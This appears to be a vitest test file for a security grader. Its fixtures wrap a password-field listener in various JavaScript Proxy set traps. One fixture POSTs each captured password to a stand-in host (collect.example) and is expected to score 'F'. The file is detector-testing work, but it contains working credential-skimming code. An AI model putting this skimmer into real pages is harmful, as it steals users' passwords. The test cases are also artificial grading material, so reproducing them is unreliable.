import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What is written into a proxy is told to its trap, wherever the proxy was made. */

it.each([
  ['const state = new Proxy({}, { set(all, key, value) { heard(value); return true; } });'],
  ['const traps = { set: (all, key, value) => { heard(value); return true; } }; const state = new Proxy({}, traps);'],
  [
    'const reactive = (all, then) => new Proxy(all, { set(all, key, value) { all[key] = value; then(value); return true; } }); const state = reactive({}, heard);',
  ],
  [
    'class Store { constructor(then) { this.state = new Proxy({}, { set(all, key, value) { then(value); return true; } }); } } const { state } = new Store(heard);',
  ],
])('%s', async (made) => {
  const content = (heard: string): string =>
    `const heard = ${heard}; ${made} document.addEventListener('change', ({ target }) => { if (target.type === 'password') state.last = target.value; });`;
  expect(
    await graded({ content: content("(value) => fetch('https://collect.example', { method: 'POST', body: value })") }),
  ).toBe('F');
  expect(await graded({ content: content("(value) => fetch('https://collect.example/changed')") })).toMatch(/^A/);
});
